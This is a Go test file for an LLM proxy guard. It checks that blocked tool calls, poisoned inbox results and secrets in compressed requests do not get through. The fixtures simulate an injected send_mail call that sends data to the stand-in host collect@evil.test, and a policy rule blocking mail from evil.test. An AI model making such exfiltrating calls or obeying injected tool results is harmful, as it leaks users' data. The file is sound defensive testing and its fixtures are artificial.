package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"net/http"
	"path/filepath"
	"strings"
	"testing"

	"github.com/archestra-ai/archestra-cli/pkg/llm"
	"github.com/archestra-ai/archestra-cli/pkg/simulate"
)

// TestNothingLeaks: whatever becomes of an answer on its way, nothing of a call that
// is to be refused reaches the client, and what of it does is well formed or cut off.
func TestNothingLeaks(t *testing.T) {
	t.Parallel()
	const mark = "MARK4242"
	mail := func(args string) string { return `text "Let me look." | call send_mail ` + args }
	plain := mail(`{"to":"collect@evil.test","text":"` + mark + `"}`)
	_, sim := simulated(t, nil)
	r := startGuarded(t, t.TempDir(), sim, nil, "--max-held", "64KiB", "--max-header", "256KiB")
	for _, tt := range []struct {
		name, script string
		broken       bool // the provider's answer has no good end
	}{
		{"plain", plain, false},
		{"byte by byte", plain + " | chunk 5", false},
		{"compressed by gzip", plain + " | gzip", false},
		{"compressed by zstd", plain + " | zstd", false},
		{"compressed by br", plain + " | br | chunk 7", false},
		{"with usage", plain + " | usage 100 20 cached 40", false},
		{"line ends", plain + " | crlf", false},
		{"comments", plain + " | comments", false},
		{"a name twice", mail(quoted(`{"to":"me@corp.test","text":"` + mark + `","to":"collect@evil.test"}`)), false},
		{"no JSON", mail(quoted(`{"to":"collect@evil.test","text":"` + mark)), false},
		{"too large", mail(`{"to":"collect@evil.test","text":"` + mark + strings.Repeat("x", 70000) + `"}`), false},
		{"cut", plain + " | cut 6", true},
		{"cut early", plain + " | cut 5", true},
		{"no end", plain + " | noterminal", true},
		{"garbage", plain + " | garbage", true},
		{"an error in the middle", plain + " | error-midstream 500", true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			eachSpeech(t, func(t *testing.T, s speech, stream bool) {
				if s.name == "responses" || s.name == "chat_completions" || tt.name != "no JSON" && tt.name != "a name twice" {
					// In the others arguments are an object within the answer's own JSON.
				} else if stream == false || s.name != "messages" {
					return
				}
				w := s.begin(t, r.base+"/v1"+s.path(stream), tt.script, attacked, stream)
				<-w.done
				if strings.Contains(w.soFar(), mark) {
					t.Errorf("a part of the call reached the client: %s", w.soFar())
				}
				if w.status != http.StatusOK || w.err != nil {
					if !tt.broken && tt.name != "a name twice" && tt.name != "no JSON" {
						t.Errorf("status %d, %v: %s", w.status, w.err, w.soFar())
					}
					return
				}
				got := s.decode(w)
				if len(got.ToolCalls) != 0 {
					t.Errorf("the client got the calls %q", names(got))
				}
				if tt.broken {
					return
				}
				if !got.Complete || strings.Count(got.Text(), "[archestra]") != 1 {
					t.Errorf("complete %v, it says %q", got.Complete, got.Text())
				}
			})
		})
	}
	for id, i := range r.logs(t) {
		for _, c := range i.ToolCalls {
			if c.Name == "send_mail" && c.Verdict != llm.ActionBlock {
				t.Errorf("%s (%s, %s) is recorded with %s by %s", id, i.API, i.State, c.Verdict, c.Rule)
			}
		}
	}
}

// TestTwoQuestions: each call of a turn that is asked about gets its own answer, of
// a whole answer in whatever order, and they arrive in their own.
func TestTwoQuestions(t *testing.T) {
	t.Parallel()
	_, sim := simulated(t, nil)
	r := startGuarded(t, t.TempDir(), sim, nil)
	f := r.follow(t)
	seen := map[string]bool{}
	const two = `call send_mail {"to":"collect@evil.test","text":"1"} | call get_weather {"city":"Oslo"} | call send_mail {"to":"second@evil.test","text":"2"} | call get_weather {"city":"Rome"}`
	eachSpeech(t, func(t *testing.T, s speech, stream bool) {
		for _, pass := range []string{"collect", "second", "both"} {
			c := attacked
			c.user += " For " + t.Name() + pass
			w := s.begin(t, r.base+"/v1"+s.path(stream), two, c, stream)
			answer := func(q llm.Ask, about string) {
				if !strings.Contains(string(q.Arguments), about) {
					t.Fatalf("asked about %s, want %s", q.Arguments, about)
				}
				what := "deny"
				if pass == "both" || pass == about {
					what = "allow"
				}
				r.command(t, "ask", what, q.ID)
			}
			if first := f.held(t, seen); stream {
				// The second question may come once the first is answered.
				answer(first, "collect")
				answer(f.held(t, seen), "second")
			} else {
				answer(f.held(t, seen), "second")
				answer(first, "collect")
			}
			w.whole(t)
			got := s.decode(w)
			var order []string
			for _, call := range got.ToolCalls {
				order = append(order, string(call.Arguments))
			}
			var want []string
			for _, arg := range []string{"collect@", "Oslo", "second@", "Rome"} {
				if strings.HasSuffix(arg, "@") && pass != "both" && arg != pass+"@" {
					continue
				}
				want = append(want, arg)
			}
			ok := len(order) == len(want) && got.Complete
			for i := range want {
				ok = ok && strings.Contains(order[i], want[i])
			}
			if !ok {
				t.Errorf("%s allowed: the client got %q, complete %v", pass, order, got.Complete)
			}
			if pass == "both" && stream && w.soFar() != s.from(t, sim, two, c, stream) {
				t.Errorf("it came otherwise than it was sent")
			}
		}
	})
}

// TestBlockedResults: a result that a rule blocks does not reach the model, in any
// format; in report mode it does, and is told.
func TestBlockedResults(t *testing.T) {
	t.Parallel()
	const rules = "version: 1\nMODEresults:\n  blocked:\n    - id: no-evil\n      tool: read_inbox\n      when: [{path: text, contains: evil.test}]\n      because: mails of this sender are not for models\n"
	for _, mode := range []string{"enforce", "report"} {
		t.Run(mode, func(t *testing.T) {
			t.Parallel()
			provider, sim := simulated(t, nil)
			dir := t.TempDir()
			put(t, filepath.Join(dir, "archestra", "policy.yaml"), strings.ReplaceAll(rules, "MODE", "mode: "+mode+"\n"))
			r := startGuarded(t, dir, sim, nil)
			eachSpeech(t, func(t *testing.T, s speech, stream bool) {
				before := len(provider.Requests())
				if _, got := s.through(t, r, `text "Done."`, attacked, stream); got.Text() != "Done." {
					t.Errorf("it says %q", got.Text())
				}
				sent := string(provider.Requests()[before].Body)
				if strings.Contains(sent, "evil.test") != (mode == "report") || (mode == "report") != (sent == s.body(attacked, stream)) {
					t.Errorf("the provider got %s", sent)
				}
				if mode == "enforce" && !strings.Contains(sent, "mails of this sender are not for models") {
					t.Errorf("nothing tells the model why: %s", sent)
				}
				clean := talk{user: attacked.user, inbox: "- from: ann@corp.test\n"}
				before = len(provider.Requests())
				s.through(t, r, `text "Done."`, clean, stream)
				if sent := string(provider.Requests()[before].Body); sent != s.body(clean, stream) {
					t.Errorf("a good result came otherwise than it was sent: %s", sent)
				}
			})
			told := 0
			for id, i := range r.logs(t) {
				for _, f := range i.Findings {
					want := map[string]string{"enforce": "block", "report": "report"}[mode]
					if f.Kind != "tool_result" || f.Detector != "no-evil" || f.Action != want {
						t.Errorf("%s: %+v", id, f)
					}
					told++
				}
			}
			if told != 2*len(speeches) {
				t.Errorf("%d results are told of, want %d", told, 2*len(speeches))
			}
		})
	}
}

// TestCompressedSecret: a request that is compressed is looked into, and leaves
// without its secrets.
func TestCompressedSecret(t *testing.T) {
	t.Parallel()
	provider, sim := simulated(t, func(o *simulate.Options) { o.KeepBody = 1 << 20 })
	for _, mode := range []string{"redact", "block"} {
		r := startGuarded(t, t.TempDir(), sim, nil, "--secrets", mode)
		for _, s := range speeches {
			var body bytes.Buffer
			zip := gzip.NewWriter(&body)
			if _, err := io.WriteString(zip, s.body(talk{user: "My key is " + tokenSecret + "."}, true)); err != nil {
				t.Fatal(err)
			}
			if err := zip.Close(); err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(t.Context(), patience)
			req, err := http.NewRequestWithContext(ctx, http.MethodPost, r.base+"/v1"+s.path(true), &body)
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("Content-Type", "application/json")
			req.Header.Set("Content-Encoding", "gzip")
			before := len(provider.Requests())
			res, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			got, err := io.ReadAll(res.Body)
			res.Body.Close()
			cancel()
			if err != nil {
				t.Fatal(err)
			}
			seen := provider.Requests()[before:]
			if mode == "block" {
				if res.StatusCode != http.StatusBadRequest || len(seen) != 0 {
					t.Errorf("%s: status %d, %d requests: %s", s.name, res.StatusCode, len(seen), got)
				}
				continue
			}
			if res.StatusCode != http.StatusOK || len(seen) != 1 || leaking(seen[0].Body) != "" || !bytes.Contains(seen[0].Body, []byte("REDACTED_SECRET_")) {
				t.Errorf("%s: status %d: %s; the provider got %s", s.name, res.StatusCode, got, fmt.Sprint(seen))
			}
		}
		r.kill()
		searchFiles(t, r, mode)
	}
}
